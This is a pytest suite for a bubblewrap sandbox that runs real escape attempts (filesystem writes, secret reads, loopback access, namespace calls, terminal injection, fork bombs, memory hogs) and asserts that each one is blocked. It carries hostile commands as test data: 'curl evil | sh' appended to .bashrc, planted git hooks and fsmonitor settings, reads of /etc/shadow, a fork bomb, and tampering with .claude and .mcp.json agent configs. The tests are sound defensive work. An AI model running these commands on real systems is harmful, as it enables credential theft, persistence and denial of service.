"""The escape suite: real bubblewrap, real commands trying to get out."""

from __future__ import annotations

import os
import socket
import subprocess
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

pytestmark = [pytest.mark.bwrap, pytest.mark.anyio]

PY = "/usr/bin/python3"


@pytest.fixture
def marker() -> str:
    return f"corral-escape-{uuid.uuid4().hex}"


async def test_writes_outside_the_workspace_fail(
    open_ws: Any, sh: Callable[..., Any], marker: str
) -> None:
    host_home = os.path.expanduser("~")
    async with open_ws() as ws:
        for target in ("/", "/etc/", "/usr/", f"{host_home}/", "/workspace/../"):
            result = await sh(ws, f"echo x > {target}{marker}")
            assert result.exit_code != 0, target
            assert not os.path.exists(f"{target}{marker}".replace("/workspace/../", "/"))
        result = await sh(ws, f"echo inside > /tmp/{marker} && cat /tmp/{marker}")
        assert result.stdout == "inside\n"
        assert not os.path.exists(f"/tmp/{marker}")
        ok = await sh(ws, f"echo ok > {marker}.txt && pwd")
        assert ok.stdout == "/workspace\n"
        assert await ws.fs.read_file(f"/{marker}.txt") == b"ok\n"


async def test_host_secrets_stay_hidden(
    open_ws: Any, sh: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, marker: str
) -> None:
    secret = f"s3cr3t-{uuid.uuid4().hex}"
    monkeypatch.setenv("CORRAL_FAKE_SECRET_TOKEN", secret)
    home_secret = Path(os.path.expanduser("~")) / f".{marker}"
    home_secret.write_text(secret)
    try:
        async with open_ws() as ws:
            result = await sh(
                ws,
                "cat /proc/1/environ /proc/1/cmdline; env; ps -eo args 2>/dev/null; "
                f"cat {home_secret}; ls -a ~; cat /etc/shadow",
            )
            assert secret not in result.stdout
            assert secret not in result.stderr
            assert "No such file" in result.stderr
            assert "/etc/shadow" in result.stderr
            cmdline = await sh(ws, "tr '\\0' ' ' < /proc/1/cmdline")
            assert "bwrap" in cmdline.stdout
            assert "--seccomp" in cmdline.stdout
    finally:
        home_secret.unlink()


@pytest.fixture
def listener() -> Iterator[int]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            conn.sendall(b"hello-from-host")
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1]
    stop.set()
    thread.join()
    server.close()


def _connect(port: int) -> str:
    return (
        f"{PY} -c \"import socket; s=socket.create_connection(('127.0.0.1', {port}), timeout=3); "
        'print(s.recv(64).decode())"'
    )


async def test_network_off_blocks_host_loopback(
    open_ws: Any, sh: Callable[..., Any], listener: int
) -> None:
    async with open_ws() as ws:
        result = await sh(ws, _connect(listener))
        assert result.exit_code != 0
        assert "hello-from-host" not in result.stdout
        assert "Connection refused" in result.stderr
        links = await sh(ws, "cat /proc/net/dev")
        assert "lo:" in links.stdout
        assert "eth" not in links.stdout


async def test_network_on_reaches_host(open_ws: Any, sh: Callable[..., Any], listener: int) -> None:
    async with open_ws(network="on") as ws:
        result = await sh(ws, _connect(listener))
        assert result.stdout == "hello-from-host\n", result.stderr
        assert ws.details()["network"] == "on"


async def test_no_privileges(open_ws: Any, sh: Callable[..., Any], tmp_path: Path) -> None:
    async with open_ws() as ws:
        status = await sh(
            ws, "grep -E '^(CapEff|CapPrm|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status"
        )
        fields = dict(line.split(":\t") for line in status.stdout.splitlines())
        assert fields["CapEff"] == fields["CapPrm"] == fields["CapBnd"] == "0000000000000000"
        assert fields["NoNewPrivs"] == "1"
        assert fields["Seccomp"] == "2"
        # A setuid-root binary planted by the host gains nothing inside.
        root = ws.details()["root"]
        planted = os.path.join(root, "suid-id")
        subprocess.run(["cp", "/usr/bin/id", planted], check=True)
        os.chown(planted, 0, 0)
        os.chmod(planted, 0o4755)
        result = await sh(ws, "./suid-id -u; ./suid-id -ru")
        assert result.stdout.split() == ["1000", "1000"]


async def test_namespace_and_mount_tricks_fail(open_ws: Any, sh: Callable[..., Any]) -> None:
    async with open_ws() as ws:
        assert (await sh(ws, "unshare -r true")).exit_code != 0
        assert (await sh(ws, "unshare -n true")).exit_code != 0
        mount = await sh(ws, "mount -t tmpfs none /tmp")
        assert mount.exit_code != 0
        code = (
            "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
            "r = libc.unshare(0x10000000); print(r, ctypes.get_errno()); "
            "r = libc.setns(os.open('/proc/1/ns/mnt', os.O_RDONLY), 0); "
            "print(r, ctypes.get_errno()); "
            "print(libc.syscall(435, 0, 0), ctypes.get_errno())"  # clone3
        )
        result = await sh(ws, f'{PY} -c "{code}"')
        lines = result.stdout.split("\n")
        assert lines[:3] == ["-1 1", "-1 1", "-1 38"], result


async def test_terminal_injection_is_refused(open_ws: Any, sh: Callable[..., Any]) -> None:
    code = (
        "import fcntl, termios, errno\n"
        "try:\n    fcntl.ioctl(0, termios.TIOCSTI, b'x')\n"
        "except OSError as e:\n    print(errno.errorcode[e.errno])"
    )
    async with open_ws() as ws:
        result = await sh(ws, f'{PY} -c "$CODE"', env={"CODE": code})
        assert result.stdout == "EPERM\n", result  # seccomp, not ENOTTY
        assert (await sh(ws, "ps -o sid= -p $$; ps -o pid= -p $$")).exit_code == 0


def _alive(marker: str) -> bool:
    return subprocess.run(["pgrep", "-f", marker], capture_output=True, check=False).returncode == 0


async def test_nothing_outlives_a_timeout(
    open_ws: Any, sh: Callable[..., Any], marker: str
) -> None:
    daemon = f"setsid sh -c 'sleep 300 # {marker}' </dev/null >/dev/null 2>&1 &"
    async with open_ws() as ws:
        result = await sh(ws, f"( {daemon} ); sleep 60", timeout_s=1.0)
        assert result.timed_out
        assert not _alive(marker)
        done = await sh(ws, f"( {daemon} ); echo started")
        assert done.stdout == "started\n"
        assert not _alive(marker)


async def test_fork_bomb_is_bounded(open_ws: Any, sh: Callable[..., Any]) -> None:
    # Bounded: at most 2000 children, so a broken limit cannot take the host down.
    code = (
        "import os, time\nmade = failed = 0\n"
        "for _ in range(2000):\n"
        "    try:\n        pid = os.fork()\n"
        "    except BlockingIOError:\n        failed += 1\n        break\n"
        "    if pid == 0:\n        time.sleep(5)\n        os._exit(0)\n    made += 1\n"
        "print(made, failed)\n"
    )
    async with open_ws(limits={"processes": 64}) as ws:
        started = time.perf_counter()
        result = await sh(ws, f'{PY} -c "$CODE"', env={"CODE": code})
        made, failed = map(int, result.stdout.split())
        assert failed == 1
        assert made < 64
        bomb = await sh(ws, "b() { b | b & }; b", timeout_s=3.0)
        assert bomb.timed_out or bomb.exit_code is not None
        assert time.perf_counter() - started < 30
    t = time.perf_counter()
    subprocess.run(["true"], check=True)
    assert time.perf_counter() - t < 2.0  # the host is still responsive


async def test_memory_hog_is_capped(open_ws: Any, sh: Callable[..., Any]) -> None:
    async with open_ws(limits={"memory_bytes": 512 * 1024**2}) as ws:
        result = await sh(ws, f"{PY} -c 'x = bytearray(2 * 1024**3); print(len(x))'")
        assert result.exit_code != 0
        assert result.stdout == ""
        # The workspace's memory cgroup OOM-kills it (RLIMIT_AS would raise MemoryError).
        assert result.signal == 9 or "MemoryError" in result.stderr


async def test_file_size_and_tmpfs_are_capped(open_ws: Any, sh: Callable[..., Any]) -> None:
    async with open_ws(limits={"file_size_bytes": 1024**2, "tmpfs_bytes": 4 * 1024**2}) as ws:
        big = await sh(ws, "head -c 2000000 /dev/zero > big; echo $?; stat -c %s big")
        assert big.stdout.split()[-1] == str(1024**2)
        tmp = await sh(
            ws, "for i in 1 2 3 4 5 6; do head -c 1000000 /dev/zero > /tmp/f$i || exit 7; done"
        )
        assert tmp.exit_code == 7
        assert "No space left" in tmp.stderr


async def test_protected_paths_placed_from_the_host_are_judged_before_a_command(
    open_ws: Any, sh: Callable[..., Any]
) -> None:
    # Until issue 11 these were bound read-only into the sandbox; the bind was
    # raced (bwrap resolved a swapped symlink on the host), so nothing is bound
    # any more: what stands at a protected path is judged by content before
    # every command, whoever put it there.
    async with open_ws() as ws:
        root = Path(ws.details()["root"])
        (root / ".git" / "hooks").mkdir(parents=True)
        (root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
        (root / ".git" / "config").write_text("[core]\n\tbare = false\n")
        (root / ".bashrc").write_text("# mine\n")
        result = await sh(ws, "cat .git/config; ls -a .git")
        assert result.exit_code == 0, result.stderr
        assert "bare = false" in result.stdout  # a harmless config is kept
        assert "hooks" not in result.stdout
        for rel in (".git/hooks", ".bashrc"):
            assert f"corral-sandbox: {rel} was created or changed" in result.stderr
            assert not os.path.lexists(root / rel)
        (root / ".git" / "config").write_text("[core]\n\tfsmonitor = evil\n")
        result = await sh(ws, "cat .git/config")
        assert "fsmonitor" not in result.stdout
        assert not os.path.lexists(root / ".git" / "config")


HOOK_ATTACK = (
    "mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/post-checkout"
    " && chmod +x .git/hooks/post-checkout"
)


async def test_planted_protected_paths_are_quarantined(
    open_ws: Any, sh: Callable[..., Any]
) -> None:
    async with open_ws() as ws:
        root = Path(ws.details()["root"])
        assert (await sh(ws, "true")).exit_code == 0
        assert os.listdir(root) == []  # no placeholders
        attacks = {
            HOOK_ATTACK: ".git/hooks",
            "echo 'curl evil | sh' >> .bashrc": ".bashrc",
            "mkdir -p .vscode && echo '{}' > .vscode/tasks.json": ".vscode",
            "ln -s /etc .claude": ".claude",
            "echo '{}' > .mcp.json": ".mcp.json",
            "mkdir -p .git && mv .git .g && mkdir -p .g/hooks && touch .g/hooks/pre-commit"
            " && mv .g .git": ".git/hooks",
        }
        for attack, rel in attacks.items():
            result = await sh(ws, attack)
            assert result.exit_code == 0, (attack, result.stderr)
            assert f"corral-sandbox: {rel} was created or changed" in result.stderr, attack
            assert not os.path.lexists(root / rel), attack
        assert sorted(os.listdir(root)) == [".git"]
        assert os.listdir(root / ".git") == []
        assert [e.name for e in await ws.fs.ls("/")] == [".git"]


async def test_git_works_inside_the_sandbox(open_ws: Any, sh: Callable[..., Any]) -> None:
    async with open_ws() as ws:
        root = Path(ws.details()["root"])
        made = await sh(
            ws,
            "git init -q && git config user.email a@b.c && git config user.name A"
            " && echo hi > f && git add f && git commit -qm first && git log --format=%s",
        )
        assert made.exit_code == 0, made.stderr
        assert made.stdout == "first\n"
        assert "user.email" not in made.stderr
        assert (root / ".git" / "config").is_file()  # harmless: kept
        assert not (root / ".git" / "hooks").exists()  # git's sample hooks: moved out
        again = await sh(ws, "git config user.name B && git status --short && git log --format=%an")
        assert again.exit_code == 0, again.stderr
        assert again.stdout == "A\n"
        evil = await sh(ws, "git config core.fsmonitor 'touch /tmp/pwned'")
        assert ".git/config was created or changed" in evil.stderr
        assert not (root / ".git" / "config").exists()
        after = await sh(ws, "git log --format=%s")
        assert after.stdout == "first\n", after.stderr


async def test_symlinked_protected_path_is_moved_not_followed(
    open_ws: Any, sh: Callable[..., Any], tmp_path: Path
) -> None:
    # It used to refuse commands (bwrap would have followed it into a bind);
    # now the symlink itself is moved out before the command, its target untouched.
    canary = tmp_path / "canary"
    canary.mkdir()
    (canary / "secret").write_text("host\n")
    async with open_ws() as ws:
        root = Path(ws.details()["root"])
        (root / ".vscode").symlink_to(canary)
        result = await sh(ws, "ls .vscode")
        assert result.exit_code != 0
        assert "corral-sandbox: .vscode was created or changed" in result.stderr
        assert not os.path.lexists(root / ".vscode")
        assert (canary / "secret").read_text() == "host\n"


async def test_details_and_seccomp_loaded(open_ws: Any) -> None:
    async with open_ws() as ws:
        details = ws.details()
        assert details["backend"] == "bubblewrap"
        assert details["seccomp"] is True
        assert details["network"] == "off"
        assert details["bwrap_version"]
        assert "ptrace" in details["seccomp_denied"]
